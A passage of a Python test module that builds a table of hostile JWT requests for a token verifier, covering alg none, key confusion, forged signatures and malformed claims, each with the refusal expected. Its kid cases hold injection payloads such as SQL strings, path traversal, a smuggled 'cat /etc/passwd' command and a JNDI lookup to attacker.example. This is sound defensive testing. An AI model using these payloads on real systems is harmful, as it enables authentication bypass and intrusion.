"""The attack table: hostile requests and tokens, each with the exact answer expected.

Every stack (raw ASGI, raw WSGI, Starlette's backend, FastAPI, Flask, Django, DRF)
runs the whole table. A case is a request (raw header bytes, a query string)
against one of two settings profiles, and its expected outcome: a refusal (status,
RFC 6750 error code, ``error_description``) or an acceptance with its subject.

The families follow the JWT attack literature: RFC 8725 ("JWT Best Current
Practices"), RFC 6750/7515/7519, the PortSwigger JWT labs, jwt_tool's attack
list, and published CVEs of JOSE libraries (CVE-2015-9235, CVE-2016-10555,
CVE-2018-0114, CVE-2022-21449, CVE-2022-29217). docs/security.md lists what is
refused and why.

Tokens PyJWT refuses to encode (a non-string ``kid``, a public key as an HMAC
secret) are signed by hand (:func:`hmac_token`, :func:`conftest.sign_raw`): an
attacker's encoder has no such scruples.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import sys
from collections.abc import Mapping
from dataclasses import dataclass, field
from datetime import datetime, timedelta, timezone
from typing import Any

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.x509.oid import NameOID
from jwt.algorithms import ECAlgorithm, RSAAlgorithm

from conftest import NOW, SECRET, b64url, pem, sign_raw

ISS = "https://issuer.example"
AUD = "api"
LEEWAY = 30
MAX_TOKEN_BYTES = 8192
REALM = "api"

SOURCES = ["header", "cookie", "query"]

PROFILES: dict[str, dict[str, Any]] = {
    # Public keys by kid: RSA (RS256/PS256), P-256 (ES256), Ed25519 (EdDSA).
    "pk": {
        "algorithms": ["RS256", "PS256", "ES256", "EdDSA"],
        "public_key": {
            "rsa-1": pem("rsa_public"),
            "ec-1": pem("ec256_public"),
            "ed-1": pem("ed25519_public"),
        },
        "issuer": ISS,
        "audience": [AUD],
        "leeway": LEEWAY,
        "token_sources": SOURCES,
        "realm": REALM,
    },
    # One HMAC secret without a kid.
    "hs": {
        "algorithms": ["HS256"],
        "secret": SECRET,
        "issuer": ISS,
        "audience": [AUD],
        "leeway": LEEWAY,
        "token_sources": SOURCES,
        "realm": REALM,
    },
}

# -- the expected outcomes -------------------------------------------------------------


@dataclass(frozen=True)
class Expect:
    """An outcome: ``status`` 200 with ``subject``, or a refusal with code and description."""

    status: int
    error: str | None = None
    description: str | None = None
    subject: str | None = None

    @property
    def accepted(self) -> bool:
        return self.status == 200

    def challenge(self) -> str:
        """The exact ``WWW-Authenticate`` value of this refusal."""
        if self.error is None:
            return f'Bearer realm="{REALM}"'
        return (
            f'Bearer realm="{REALM}", error="{self.error}", error_description="{self.description}"'
        )

    def body(self) -> dict[str, str]:
        """The exact JSON body of this refusal."""
        if self.error is None:
            return {
                "error": "authentication_required",
                "error_description": "authentication required",
            }
        assert self.description is not None
        return {"error": self.error, "error_description": self.description}


def accept(subject: str = "alice") -> Expect:
    return Expect(200, subject=subject)


def invalid(description: str) -> Expect:
    return Expect(401, "invalid_token", description)


def bad_request(description: str) -> Expect:
    return Expect(400, "invalid_request", description)


MISSING = Expect(401)
MALFORMED = invalid("malformed token")
ALG = invalid("algorithm not allowed")
SIG = invalid("signature verification failed")
UNKNOWN_KEY = invalid("unknown signing key")
EXPIRED = invalid("token expired")
IMMATURE = invalid("token not yet valid")
TOO_LARGE = invalid("token too large")
CRIT = invalid("unsupported critical header")
BAD_ISSUER = invalid("invalid issuer")
BAD_AUDIENCE = invalid("invalid audience")
WRONG_TYPE = invalid("wrong token type")
BAD_HEADER = bad_request("malformed authorization header")


def bad_claim(name: str) -> Expect:
    return invalid(f"invalid {name} claim")


def missing_claim(name: str) -> Expect:
    return invalid(f"missing {name} claim")


@dataclass(frozen=True)
class Case:
    """One hostile request: raw headers and query, a settings profile, the answer expected.

    ``wsgi`` is the answer where repeated header lines are joined into one value
    (RFC 9110 §5.3): WSGI servers do it, and so does Django under ASGI, so "two
    Authorization headers" reaches jwtgate as one malformed header there.
    """

    id: str
    headers: tuple[tuple[bytes, bytes], ...]
    expect: Expect
    query: str = ""
    profile: str = "pk"
    wsgi: Expect | None = None
    family: str = field(default="", compare=False)

    def expected(self, wsgi: bool) -> Expect:
        return self.wsgi if wsgi and self.wsgi is not None else self.expect

    @property
    def tokens(self) -> list[str]:
        """Every token-ish string this request carries (for the leak checks)."""
        values = [v.decode("latin-1") for _, v in self.headers] + [self.query]
        return [v for v in values if len(v) >= 16]


# -- keys and signing --------------------------------------------------------------------


def _private(name: str) -> Any:
    # Parsed once: loading (and checking) an RSA key costs far more than signing with it.
    return serialization.load_pem_private_key(pem(name).encode(), password=None)


PRIVATE = {"rsa-1": _private("rsa_private"), "ec-1": _private("ec256_private")}
PRIVATE["ed-1"] = _private("ed25519_private")
ATTACKER_RSA = _private("rsa2_private")
ATTACKER_EC = _private("ec384_private")
ALG_OF = {"rsa-1": "RS256", "ec-1": "ES256", "ed-1": "EdDSA"}


def claims(**overrides: Any) -> dict[str, Any]:
    """Valid claims for alice at NOW (iss, aud, iat, exp), with ``overrides``."""
    base: dict[str, Any] = {"sub": "alice", "iss": ISS, "aud": AUD, "iat": NOW, "exp": NOW + 300}
    base.update(overrides)
    return base


def without(*names: str, **overrides: Any) -> dict[str, Any]:
    """:func:`claims` without ``names``."""
    result = claims(**overrides)
    for name in names:
        del result[name]
    return result


def signed(
    payload: Mapping[str, Any] | bytes | None = None,
    *,
    kid: str | None = "rsa-1",
    alg: str | None = None,
    key: Any = None,
    header: Mapping[str, Any] | bytes | None = None,
) -> str:
    """A token signed with a configured key (``kid``), or ``key`` (PEM text) if given."""
    algorithm = alg or ALG_OF.get(kid or "rsa-1", "RS256")
    if header is None:
        header = {"alg": algorithm, "typ": "JWT", **({"kid": kid} if kid is not None else {})}
    material = key if key is not None else PRIVATE[kid or "rsa-1"]
    return sign_raw(
        header, claims() if payload is None else payload, key=material, algorithm=algorithm
    )


def hs(payload: Mapping[str, Any] | None = None, **header: Any) -> str:
    """A token of the HMAC profile, signed with the configured secret."""
    return sign_raw(
        {"alg": "HS256", "typ": "JWT", **header}, claims() if payload is None else payload
    )


def hmac_token(secret: bytes, alg: str = "HS256", **header: Any) -> str:
    """A token MAC'd with ``secret`` by hand (PyJWT refuses a PEM as HMAC secret)."""
    digest = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}[alg]
    head = b64url(json.dumps({"alg": alg, "typ": "JWT", **header}).encode())
    body = b64url(json.dumps(claims()).encode())
    mac = hmac.new(secret, f"{head}.{body}".encode(), digest).digest()
    return f"{head}.{body}.{b64url(mac)}"


def with_signature(token: str, signature: bytes | str) -> str:
    """``token`` with its signature segment replaced."""
    head, body, _ = token.split(".")
    sig = signature if isinstance(signature, str) else b64url(signature)
    return f"{head}.{body}.{sig}"


def seg(value: object) -> str:
    """base64url of ``value``: bytes as they are, anything else as JSON."""
    return b64url(value if isinstance(value, bytes) else json.dumps(value).encode())


INVALID_UTF8_HEADER = b'{"alg":"RS256","kid":"\xff"}'
BOM_HEADER = b'\xef\xbb\xbf{"alg":"RS256","kid":"rsa-1"}'
NAN_HEADER = b'{"alg":"RS256","kid":"rsa-1","x":NaN}'


def _self_signed(private: rsa.RSAPrivateKey, common_name: str) -> x509.Certificate:
    """A self-signed X.509 certificate for ``private``'s public key."""
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, common_name)])
    start = datetime(2026, 1, 1, tzinfo=timezone.utc)
    return (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(private.public_key())
        .serial_number(1)
        .not_valid_before(start)
        .not_valid_after(start + timedelta(days=3650))
        .sign(private, hashes.SHA256())
    )


def _public_encodings() -> dict[str, bytes]:
    """Every way the configured RSA/EC/Ed25519 public keys are published."""
    private = PRIVATE["rsa-1"]
    public = private.public_key()
    cert = _self_signed(private, "issuer.example")
    spki = pem("rsa_public").encode()
    der, pem_, pkcs1 = (
        serialization.Encoding.DER,
        serialization.Encoding.PEM,
        serialization.PublicFormat.PKCS1,
    )
    ec_public = serialization.load_pem_public_key(pem("ec256_public").encode())
    return {
        "spki-pem": spki,
        "spki-pem-no-newline": spki.rstrip(b"\n"),
        "spki-pem-crlf": spki.replace(b"\n", b"\r\n"),
        "pkcs1-pem": public.public_bytes(pem_, pkcs1),
        "x509-cert-pem": cert.public_bytes(pem_),
        "x509-cert-der": cert.public_bytes(der),
        "jwk-json": RSAAlgorithm.to_jwk(public).encode(),
        "spki-der": public.public_bytes(der, serialization.PublicFormat.SubjectPublicKeyInfo),
        "pkcs1-der": public.public_bytes(der, pkcs1),
        "ssh": public.public_bytes(
            serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH
        ),
        "ec-spki-pem": pem("ec256_public").encode(),
        "ec-jwk-json": ECAlgorithm.to_jwk(ec_public).encode(),  # type: ignore[arg-type]
        "ed25519-spki-pem": pem("ed25519_public").encode(),
    }


def _attacker_cert_b64() -> str:
    cert = _self_signed(ATTACKER_RSA, "attacker.example")
    return base64.b64encode(cert.public_bytes(serialization.Encoding.DER)).decode()


def _attacker_jwk() -> dict[str, Any]:
    jwk: dict[str, Any] = json.loads(RSAAlgorithm.to_jwk(ATTACKER_RSA.public_key()))
    return jwk


# -- building the table --------------------------------------------------------------------

VALID = signed()
VALID_HS = hs()
_CASES: list[Case] = []
_family = ""


def auth(value: str | bytes) -> tuple[bytes, bytes]:
    """An ``Authorization`` header line."""
    return (b"authorization", value.encode("latin-1") if isinstance(value, str) else value)


def add(
    case_id: str,
    token: str | None,
    expect: Expect,
    *,
    profile: str = "pk",
    headers: tuple[tuple[bytes, bytes], ...] | None = None,
    query: str = "",
    wsgi: Expect | None = None,
) -> None:
    """Add a case: ``token`` as ``Authorization: Bearer <token>`` unless ``headers`` is given."""
    if headers is None:
        headers = () if token is None else (auth(f"Bearer {token}"),)
    _CASES.append(Case(case_id, headers, expect, query, profile, wsgi, _family))


def family(name: str) -> None:
    global _family
    _family = name


def header_token(header: Mapping[str, Any], kid_key: str = "rsa-1") -> str:
    """A token with exactly ``header`` (alg included), signed by the configured ``kid_key``."""
    return sign_raw(header, claims(), key=PRIVATE[kid_key], algorithm=ALG_OF[kid_key])


def _build() -> None:
    # ---- accepted: the baseline every attack is a variation of -------------------------
    family("accepted")
    add("accept-rs256", VALID, accept())
    add("accept-ps256", signed(alg="PS256"), accept())
    add("accept-es256", signed(kid="ec-1"), accept())
    add("accept-eddsa", signed(kid="ed-1"), accept())
    add("accept-hs256-profile", VALID_HS, accept(), profile="hs")
    add("accept-rs256-no-kid-sole-key", signed(kid=None), accept())
    add("accept-aud-list", signed(claims(aud=["other", AUD])), accept())
    add("accept-scope-string", signed(claims(scope="read write")), accept())
    add("accept-subject-unicode", signed(claims(sub="ålice-☃")), accept("ålice-☃"))
    add(
        "accept-typ-at+jwt",
        header_token({"alg": "RS256", "kid": "rsa-1", "typ": "at+jwt"}),
        accept(),
    )
    add("accept-no-typ", header_token({"alg": "RS256", "kid": "rsa-1"}), accept())
    add("kid-null", header_token({"alg": "RS256", "kid": None}), MALFORMED)

    # ---- alg none and other unsigned forms (RFC 8725 §2.1, CVE-2015-9235) ------------
    family("alg-none")
    for name, alg in {
        "none": "none",
        "None": "None",
        "NONE": "NONE",
        "nOnE": "nOnE",
        "NoNe": "NoNe",
        "none-trailing-space": "none ",
        "none-leading-space": " none",
    }.items():
        unsigned = f"{seg({'alg': alg, 'typ': 'JWT'})}.{seg(claims())}."
        add(f"alg-{name}-empty-sig", unsigned, ALG)
    none = seg({"alg": "none"})
    add("alg-none-with-real-signature", f"{none}.{seg(claims())}.{VALID.split('.')[2]}", ALG)
    add("alg-none-hs-profile", f"{none}.{VALID_HS.split('.')[1]}.", ALG, profile="hs")
    add("alg-none-two-segments", f"{none}.{seg(claims())}", MALFORMED)
    for name, alg_value in {
        "empty": "",
        "null": None,
        "number": 256,
        "true": True,
        "list": ["RS256"],
        "object": {"name": "RS256"},
    }.items():
        expect = ALG if isinstance(alg_value, str) else MALFORMED
        add(f"alg-{name}", header_token({"alg": alg_value, "kid": "rsa-1"}), expect)
    add("alg-missing", header_token({"kid": "rsa-1", "typ": "JWT"}), MALFORMED)

    # ---- algorithms outside the allow-list (RFC 8725 §3.1) ---------------------------
    family("alg-not-allowed")
    for alg in ("HS256", "HS384", "HS512"):
        add(f"alg-{alg}-in-pk-profile", hmac_token(SECRET.encode() * 2, alg, kid="rsa-1"), ALG)
    add("alg-RS384-not-listed", signed(alg="RS384"), ALG)
    add("alg-RS512-not-listed", signed(alg="RS512"), ALG)
    add("alg-PS512-not-listed", signed(alg="PS512"), ALG)
    add("alg-ES384-not-listed", signed(kid=None, alg="ES384", key=ATTACKER_EC), ALG)
    add("alg-rs256-lowercase", header_token({"alg": "rs256", "kid": "rsa-1"}), ALG)
    add("alg-RS256-trailing-space", header_token({"alg": "RS256 ", "kid": "rsa-1"}), ALG)
    add("alg-ES256K", header_token({"alg": "ES256K", "kid": "ec-1"}), ALG)
    add("alg-ED25519", header_token({"alg": "Ed25519", "kid": "ed-1"}), ALG)
    add("alg-RS256-in-hs-profile", signed(), ALG, profile="hs")
    add("alg-HS384-in-hs-profile", hmac_token(SECRET.encode() * 2, "HS384"), ALG, profile="hs")
    add("alg-dir-jwe", header_token({"alg": "dir", "enc": "A256GCM"}), ALG)

    # ---- algorithm confusion: a public key as HMAC secret (CVE-2015-9235, CVE-2022-29217)
    family("alg-confusion")
    for name, material in _public_encodings().items():
        add(f"confusion-hs256-{name}", hmac_token(material, "HS256", kid="rsa-1"), ALG)
    add("confusion-hs384-spki-pem", hmac_token(pem("rsa_public").encode(), "HS384"), ALG)
    add("confusion-hs512-spki-pem", hmac_token(pem("rsa_public").encode(), "HS512"), ALG)
    add(
        "confusion-hs256-pem-in-hs-profile",
        hmac_token(pem("rsa_public").encode(), "HS256"),
        SIG,
        profile="hs",
    )

    # ---- key material in the header (CVE-2018-0114, jku/x5u SSRF) --------------------
    family("header-keys")
    jwk = _attacker_jwk()
    x5c = _attacker_cert_b64()
    for name, extra, expect in [
        ("jwk-embedded-kid-rsa-1", {"kid": "rsa-1", "jwk": jwk}, SIG),
        ("jwk-embedded-no-kid", {"jwk": jwk}, SIG),
        (
            "jwk-embedded-own-kid",
            {"kid": "attacker", "jwk": {**jwk, "kid": "attacker"}},
            UNKNOWN_KEY,
        ),
        (
            "jku-attacker-url",
            {"kid": "attacker", "jku": "https://attacker.example/jwks.json"},
            UNKNOWN_KEY,
        ),
        ("jku-with-kid-rsa-1", {"kid": "rsa-1", "jku": "https://attacker.example/jwks.json"}, SIG),
        ("jku-localhost-ssrf", {"kid": "x", "jku": "http://127.0.0.1:6379/"}, UNKNOWN_KEY),
        (
            "x5u-attacker-url",
            {"kid": "attacker", "x5u": "https://attacker.example/cert.pem"},
            UNKNOWN_KEY,
        ),
        ("x5c-attacker-chain", {"x5c": [x5c]}, SIG),
        ("x5c-attacker-chain-own-kid", {"kid": "attacker", "x5c": [x5c]}, UNKNOWN_KEY),
        ("x5t-thumbprint-only", {"x5t": "a" * 27}, SIG),
    ]:
        header = {"alg": "RS256", "typ": "JWT", **extra}
        add(
            f"header-{name}",
            sign_raw(header, claims(), key=ATTACKER_RSA, algorithm="RS256"),
            expect,
        )
    add(
        "header-jwk-embedded-ec",
        sign_raw(
            {"alg": "ES256", "jwk": {"kty": "EC", "crv": "P-256", "x": "AA", "y": "AA"}},
            claims(),
            key=PRIVATE["ec-1"],
            algorithm="ES256",
        ),
        accept(),  # signed by the configured key: the embedded jwk is simply ignored
    )

    # ---- kid injection (path traversal, SQL, command, very long, non-string) ---------
    family("kid")
    for name, kid in {
        "path-traversal": "../../../../../../dev/null",
        "absolute-dev-null": "/dev/null",
        "etc-passwd": "../../etc/passwd",
        "sql-or": "' OR '1'='1",
        "sql-union": "x' UNION SELECT 'secret' -- ",
        "command": "key|cat /etc/passwd",
        "backticks": "`id`",
        "jndi": "${jndi:ldap://attacker.example/a}",
        "nul-byte": "rsa-1\x00",
        "newline": "rsa-1\n",
        "unicode-confusable": "rs\u0430-1",  # a Cyrillic a
        "case": "RSA-1",
        "empty": "",
        "very-long-1000": "k" * 1000,
        "url": "https://attacker.example/key",
    }.items():
        add(
            f"kid-{name}",
            sign_raw({"alg": "RS256", "kid": kid}, claims(), key=ATTACKER_RSA, algorithm="RS256"),
            UNKNOWN_KEY,
        )
    add("kid-header-segment-over-2kb", header_token({"alg": "RS256", "kid": "k" * 3000}), MALFORMED)
    for name, kid_value in {
        "int": 1,
        "true": True,
        "list": ["rsa-1"],
        "object": {"a": "rsa-1"},
        "float": 1.5,
    }.items():
        add(f"kid-non-string-{name}", header_token({"alg": "RS256", "kid": kid_value}), MALFORMED)
    add("kid-other-family-ec-for-rs256", header_token({"alg": "RS256", "kid": "ec-1"}), UNKNOWN_KEY)
    add(
        "kid-other-family-rsa-for-es256",
        header_token({"alg": "ES256", "kid": "rsa-1"}, "ec-1"),
        UNKNOWN_KEY,
    )
    empty_mac = hmac_token(b"", "HS256", kid="../../../../dev/null")
    add("kid-dev-null-empty-secret-hs", empty_mac, SIG, profile="hs")
    add("kid-sql-hs", hmac_token(b"secret", "HS256", kid="' OR 1=1 --"), SIG, profile="hs")
    add("kid-non-string-hs", hs(kid=7), MALFORMED, profile="hs")

    # ---- stripped, truncated, tampered signatures -------------------------------------
    family("signature")
    head, body, sig = VALID.split(".")
    add("sig-stripped", f"{head}.{body}.", SIG)
    add("sig-truncated-4", f"{head}.{body}.{sig[:-4]}", MALFORMED)
    add("sig-truncated-half", f"{head}.{body}.{sig[: len(sig) // 2]}", MALFORMED)
    add("sig-bad-length-mod4", f"{head}.{body}.{sig[:-3]}", MALFORMED)
    add("sig-extended", f"{head}.{body}.{sig}AAAA", SIG)
    flipped = sig[:10] + ("A" if sig[10] != "A" else "B") + sig[11:]
    add("sig-one-char-flipped", f"{head}.{body}.{flipped}", SIG)
    add("sig-padded", f"{head}.{body}.{sig}==", MALFORMED)
    add("sig-other-key", signed(key=ATTACKER_RSA), SIG)
    add("sig-from-other-token", with_signature(signed(claims(sub="mallory")), sig), SIG)
    tampered_body = b64url(json.dumps(claims(sub="admin")).encode())
    add("payload-tampered-sub-admin", f"{head}.{tampered_body}.{sig}", SIG)
    add(
        "header-tampered-typ",
        f"{seg({'alg': 'RS256', 'kid': 'rsa-1', 'typ': 'x'})}.{body}.{sig}",
        SIG,
    )
    add(
        "sig-hs-profile-other-secret",
        sign_raw({"alg": "HS256"}, claims(), key="x" * 64),
        SIG,
        profile="hs",
    )
    add("sig-hs-profile-stripped", ".".join(VALID_HS.split(".")[:2]) + ".", SIG, profile="hs")
    add("sig-ps256-header-rs256-signature", with_signature(signed(alg="PS256"), sig), SIG)
    add("sig-rs256-as-ps256", with_signature(signed(alg="PS256"), signed().split(".")[2]), SIG)

    # ---- malformed ECDSA, RSA and EdDSA signatures (CVE-2022-21449 "psychic signature")
    family("crypto")
    es = signed(kid="ec-1")
    n256 = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
    for name, sig_bytes in {
        "psychic-r0-s0-raw": b"\x00" * 64,
        "psychic-r0-s0-der": bytes.fromhex("3006020100020100"),
        "r-s-equal-n": n256.to_bytes(32, "big") * 2,
        "r-n-s-1": n256.to_bytes(32, "big") + (1).to_bytes(32, "big"),
        "all-ff": b"\xff" * 64,
        "63-bytes": b"\x01" * 63,
        "65-bytes": b"\x01" * 65,
        "der-of-valid": _der_of(es),
        "empty": b"",
    }.items():
        add(f"ecdsa-{name}", with_signature(es, sig_bytes), SIG)
    rs_sig_len = 256
    for name, sig_bytes in {
        "zeros": b"\x00" * rs_sig_len,
        "one": (1).to_bytes(rs_sig_len, "big"),
        "255-bytes": b"\x01" * 255,
        "257-bytes": b"\x01" * 257,
        "modulus": _rsa_modulus(),
    }.items():
        add(f"rsa-{name}", with_signature(VALID, sig_bytes), SIG)
    ed = signed(kid="ed-1")
    add("eddsa-zeros", with_signature(ed, b"\x00" * 64), SIG)
    add("eddsa-63-bytes", with_signature(ed, b"\x01" * 63), SIG)

    # ---- registered claims: wrong types, out of range, non-finite, huge ---------------
    family("claims")
    for claim in ("exp", "nbf", "iat"):
        for name, value in {
            "string": str(NOW + 300),
            "true": True,
            "false": False,
            "list": [NOW + 300],
            "object": {"$date": NOW + 300},
            "int-10e400": 10**400,
        }.items():
            add(f"claim-{claim}-{name}", signed(claims(**{claim: value})), bad_claim(claim))
        add(
            f"claim-{claim}-null",
            signed(claims(**{claim: None})),
            missing_claim(claim) if claim == "exp" else bad_claim(claim),
        )
        nan = json.dumps(claims()).replace(
            f'"{claim}": {NOW if claim != "exp" else NOW + 300}', f'"{claim}": NaN'
        )
        if claim == "nbf":
            nan = json.dumps(claims(nbf=0)).replace('"nbf": 0', '"nbf": NaN')
        add(f"claim-{claim}-NaN", signed(nan.encode()), MALFORMED)
        inf = nan.replace("NaN", "-Infinity")
        add(f"claim-{claim}-minus-Infinity", signed(inf.encode()), MALFORMED)
        # Valid JSON that Python reads as inf: not a NumericDate.
        overflow = nan.replace("NaN", "1e400").encode()
        add(f"claim-{claim}-overflow-1e400", signed(overflow), bad_claim(claim))
    add(
        "claim-exp-5000-digits",
        signed(json.dumps(claims()).replace(str(NOW + 300), "9" * 5000).encode()),
        MALFORMED,
    )
    add("claim-exp-missing", signed(without("exp")), missing_claim("exp"))
    add("claim-exp-zero", signed(claims(exp=0)), EXPIRED)
    add("claim-exp-negative", signed(claims(exp=-(2**63))), EXPIRED)
    add("claim-iat-far-future", signed(claims(iat=NOW + 10**12)), IMMATURE)
    add("claim-nbf-far-future", signed(claims(nbf=2**62)), IMMATURE)
    for name, value in {
        "int": 42,
        "null": None,
        "empty": "",
        "list": ["alice"],
        "object": {"id": "alice"},
        "true": True,
    }.items():
        expect = missing_claim("sub") if value is None else bad_claim("sub")
        add(f"claim-sub-{name}", signed(claims(sub=value)), expect)
    add("claim-sub-missing", signed(without("sub")), missing_claim("sub"))
    for name, value in {"int": 1, "list": [ISS], "null": None, "object": {"url": ISS}}.items():
        add(f"claim-iss-{name}", signed(claims(iss=value)), bad_claim("iss"))
    add("claim-iss-missing", signed(without("iss")), missing_claim("iss"))
    for name, value in {
        "int": 1,
        "object": {"aud": AUD},
        "list-int": [1],
        "list-mixed": [AUD, 1],
        "null": None,
        "list-nested": [[AUD]],
    }.items():
        add(f"claim-aud-{name}", signed(claims(aud=value)), bad_claim("aud"))
    add("claim-aud-empty-list", signed(claims(aud=[])), BAD_AUDIENCE)
    add("claim-aud-missing", signed(without("aud")), missing_claim("aud"))
    add("claim-jti-int", signed(claims(jti=7)), bad_claim("jti"))
    add("claim-jti-object", signed(claims(jti={"id": 7})), bad_claim("jti"))
    add("claim-scope-int", signed(claims(scope=1)), bad_claim("scope"))
    add("claim-scope-list-of-int", signed(claims(scope=[1, 2])), bad_claim("scope"))
    add("claim-token-use-refresh", signed(claims(token_use="refresh")), WRONG_TYPE)
    add("claim-token-use-id", signed(claims(token_use="id")), WRONG_TYPE)
    add("claim-token-use-int", signed(claims(token_use=1)), WRONG_TYPE)
    add("claim-exp-huge-but-finite", signed(claims(exp=10**30)), accept())
    add("claim-exp-float", signed(claims(exp=NOW + 0.5)), accept())

    # ---- boundary times on both sides of the leeway (RFC 7519 §4.1.4/.5/.6) ----------
    family("time")
    for name, payload, expect in [
        ("exp-now-minus-leeway-minus-1", claims(exp=NOW - LEEWAY - 1), EXPIRED),
        ("exp-now-minus-leeway", claims(exp=NOW - LEEWAY), EXPIRED),
        ("exp-now-minus-leeway-plus-half", claims(exp=NOW - LEEWAY + 0.5, iat=NOW - 60), accept()),
        ("exp-now-minus-leeway-minus-half", claims(exp=NOW - LEEWAY - 0.5), EXPIRED),
        ("exp-now-minus-leeway-plus-1", claims(exp=NOW - LEEWAY + 1, iat=NOW - 60), accept()),
        ("exp-now", claims(exp=NOW), accept()),
        ("nbf-now-plus-leeway", claims(nbf=NOW + LEEWAY), accept()),
        ("nbf-now-plus-leeway-plus-half", claims(nbf=NOW + LEEWAY + 0.5), IMMATURE),
        ("nbf-now-plus-leeway-plus-1", claims(nbf=NOW + LEEWAY + 1), IMMATURE),
        ("iat-now-plus-leeway", claims(iat=NOW + LEEWAY), accept()),
        ("iat-now-plus-leeway-plus-1", claims(iat=NOW + LEEWAY + 1), IMMATURE),
        ("exp-before-iat", claims(iat=NOW, exp=NOW - 3600), EXPIRED),
    ]:
        add(f"time-{name}", signed(payload), expect)
    add("time-hs-exp-now-minus-leeway", hs(claims(exp=NOW - LEEWAY)), EXPIRED, profile="hs")
    add(
        "time-hs-nbf-now-plus-leeway-plus-1",
        hs(claims(nbf=NOW + LEEWAY + 1)),
        IMMATURE,
        profile="hs",
    )

    # ---- iss/aud exactness (RFC 7519 §4.1.1, §4.1.3) ---------------------------------
    family("iss-aud")
    for name, value in {
        "trailing-slash": ISS + "/",
        "uppercase": ISS.upper(),
        "scheme-uppercase": "HTTPS://issuer.example",
        "http": "http://issuer.example",
        "suffix": ISS + ".attacker.example",
        "prefix-only": ISS[:-1],
        "userinfo": "https://issuer.example@attacker.example",
        "leading-space": " " + ISS,
        "trailing-nul": ISS + "\x00",
        "cyrillic-i": "https://\u0456ssuer.example",
        "fullwidth": "https://\uff49ssuer.example",
        "path": ISS + "/other",
    }.items():
        add(f"iss-{name}", signed(claims(iss=value)), BAD_ISSUER)
    for name, value in {
        "uppercase": "API",
        "trailing-space": "api ",
        "leading-space": " api",
        "prefix": "ap",
        "suffix": "api2",
        "cyrillic-a": "\u0430pi",
        "nul": "api\x00",
        "list-of-other": ["apix", "web"],
        "url": "https://api",
    }.items():
        add(f"aud-{name}", signed(claims(aud=value)), BAD_AUDIENCE)

    # ---- crit, typ, b64 (RFC 7515 §4.1.11, RFC 7797, RFC 8725 §3.11) -----------------
    family("crit-typ")
    for name, crit in {
        "exp": ["exp"],
        "empty-list": [],
        "b64-string": "b64",
        "unknown": ["x-custom"],
        "null": None,
    }.items():
        add(
            f"crit-{name}",
            header_token({"alg": "RS256", "kid": "rsa-1", "crit": crit, "x-custom": 1}),
            CRIT,
        )
    add(
        "crit-b64-false",
        header_token({"alg": "RS256", "kid": "rsa-1", "crit": ["b64"], "b64": False}),
        CRIT,
    )
    # PyJWT then wants a detached payload: refused, never read as unencoded JSON.
    add(
        "b64-false-without-crit",
        header_token({"alg": "RS256", "kid": "rsa-1", "b64": False}),
        MALFORMED,
    )
    add(
        "typ-refresh-token-use-claim",
        signed(
            claims(token_use="refresh"),
            header={"alg": "RS256", "kid": "rsa-1", "typ": "refresh+jwt"},
        ),
        WRONG_TYPE,
    )
    add("cty-jwt-nested", header_token({"alg": "RS256", "kid": "rsa-1", "cty": "JWT"}), accept())

    # ---- duplicate JSON members (RFC 7515 §5.2, RFC 7519 §7.2) -----------------------
    family("duplicates")
    dup_headers = {
        "alg": b'{"alg":"none","alg":"RS256","kid":"rsa-1"}',
        "alg-reversed": b'{"alg":"RS256","alg":"none","kid":"rsa-1"}',
        "kid": b'{"alg":"RS256","kid":"attacker","kid":"rsa-1"}',
        "crit": b'{"alg":"RS256","kid":"rsa-1","crit":["x"],"crit":[]}',
    }
    for name, raw in dup_headers.items():
        add(
            f"duplicate-header-{name}",
            sign_raw(raw, claims(), key=PRIVATE["rsa-1"], algorithm="RS256"),
            MALFORMED,
        )
    base = json.dumps(claims())[1:-1]
    for name, extra in {
        "sub": '"sub": "admin"',
        "exp": f'"exp": {NOW + 10**6}',
        "aud": '"aud": "other"',
        "iss": '"iss": "https://attacker.example"',
    }.items():
        add(f"duplicate-claim-{name}", signed(f"{{{base}, {extra}}}".encode()), MALFORMED)

    # ---- broken base64url and segment counts (RFC 7515 §2, §7.1) ---------------------
    family("encoding")
    h, p, s = VALID.split(".")
    for name, token in {
        "single-segment": "abc",
        "two-segments": f"{h}.{p}",
        "four-segments": f"{h}.{p}.{s}.{s}",
        "empty-header": f".{p}.{s}",
        "only-dots": "..",
        "header-plus-slash": f"{h[:4]}+/{h[6:]}.{p}.{s}",
        "header-bad-length": f"{h}{'A' * ((1 - len(h)) % 4)}.{p}.{s}",
        "header-not-json": f"{b64url(b'not json')}.{p}.{s}",
        "header-json-array": f"{b64url(b'[1,2]')}.{p}.{s}",
        "header-json-string": f"{seg('RS256')}.{p}.{s}",
        "header-json-null": f"{b64url(b'null')}.{p}.{s}",
        "header-invalid-utf8": f"{seg(INVALID_UTF8_HEADER)}.{p}.{s}",
        "header-NaN": f"{seg(NAN_HEADER)}.{p}.{s}",
        "payload-plus-slash": f"{h}.{p[:4]}+/{p[6:]}.{s}",
        "payload-bad-length": f"{h}.{p}{'A' * ((1 - len(p)) % 4)}.{s}",
        "trailing-dot": f"{VALID}.",
        "sig-plus-slash": f"{h}.{p}.{s[:4]}+/{s[6:]}",
    }.items():
        add(f"b64-{name}", token, MALFORMED)
    # RFC 8259 §8.1 lets a parser ignore a byte order mark: the header is read, and
    # the made-up signature still fails.
    add("b64-header-bom", f"{seg(BOM_HEADER)}.{p}.{s}", SIG)
    # "=" inside a token is no token68 in a header; through the query it reaches the verifier.
    add("b64-payload-padded-in-header", f"{h}.{p}=.{s}", BAD_HEADER)
    add("b64-payload-padded-in-query", None, MALFORMED, query=f"access_token={h}.{p}%3D.{s}")
    add("b64-signature-padded-in-query", None, MALFORMED, query=f"access_token={VALID}%3D%3D")
    for name, payload in {
        "not-json": b"not json",
        "array": b"[1,2,3]",
        "string": b'"alice"',
        "empty": b"",
        "invalid-utf8": b'{"sub":"\xff"}',
        "number": b"1",
    }.items():
        add(f"payload-{name}", signed(payload), MALFORMED)

    # ---- JWE and JSON serializations (only compact JWS is a bearer token) ------------
    family("serialization")
